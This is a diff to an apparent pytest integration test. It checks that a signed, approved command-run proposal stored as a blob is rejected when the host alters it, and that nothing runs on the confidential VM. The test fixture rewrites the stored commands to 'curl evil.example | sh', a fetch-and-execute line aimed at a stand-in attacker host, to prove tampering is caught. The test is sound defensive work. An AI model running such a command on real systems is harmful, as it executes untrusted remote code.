@@ -227,28 +227,28 @@ async def test_a_large_request_is_kept_as_a_blob_and_an_altered_one_never_runs(c
     reopen = await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE}))
     await vote(controller, world, 1, "proposal.approve", reopen["proposal"]["id"])
     commands = [f"echo {'x' * 9000} > /dev/null" for _ in range(2)]  # 18 KB: above what an entry carries inline
-    runs = []
-    for _ in range(2):
-        runs.append(
-            (await perform(controller, signed(controller, world, 0, "cvm.run", {"cvm_id": cvm_id, "commands": commands})))[
-                "proposal"
-            ]
-        )
+
+    async def propose_run() -> str:
+        answer = await perform(controller, signed(controller, world, 0, "cvm.run", {"cvm_id": cvm_id, "commands": commands}))
+        return str(answer["proposal"]["id"])
+
+    first = await propose_run()
+    ran = await vote(controller, world, 1, "proposal.approve", first)
+    assert ran["proposal"]["status"] == "executed" and [r["command"] for r in ran["result"]["results"]] == commands
+    second = await propose_run()  # made after the first ran: bound to the CVM as it is now
     created = [e for e in events(controller, cvm_id) if e["event"] == "proposal.created" and e["operation"] == "cvm.run"]
     assert [e["request"] for e in created] == [None, None]
 
-    ran = await vote(controller, world, 1, "proposal.approve", runs[0]["id"])
-    assert ran["proposal"]["status"] == "executed" and [r["command"] for r in ran["result"]["results"]] == commands
-
     with sqlite3.connect(world.state_dir / "duet.sqlite3") as db:  # the host edits the stored request
-        stored = json.loads(db.execute("SELECT data FROM blobs WHERE sha256 = ?", (runs[1]["id"],)).fetchone()[0])
+        stored = json.loads(db.execute("SELECT data FROM blobs WHERE sha256 = ?", (second,)).fetchone()[0])
         stored["params"]["commands"] = ["curl evil.example | sh"]
-        db.execute("UPDATE blobs SET data = ? WHERE sha256 = ?", (json.dumps(stored).encode(), runs[1]["id"]))
+        db.execute("UPDATE blobs SET data = ? WHERE sha256 = ?", (json.dumps(stored).encode(), second))
     before = len(world.ssh.ran)
-    with pytest.raises(DuetError):
-        await vote(controller, world, 2, "proposal.approve", runs[1]["id"])
+    with pytest.raises(DuetError) as refused:
+        await vote(controller, world, 2, "proposal.approve", second)
+    assert refused.value.code == "proposal_request_altered"
     assert controller.proposals is not None
-    assert controller.proposals.replay.proposals[runs[1]["id"]].status == "failed"
+    assert controller.proposals.replay.proposals[second].status == "failed"
     assert not any("evil" in str(e.get("command")) for e in events(controller, cvm_id))
     assert len(world.ssh.ran) == before  # nothing reached the CVM
     assert violations(controller) == []
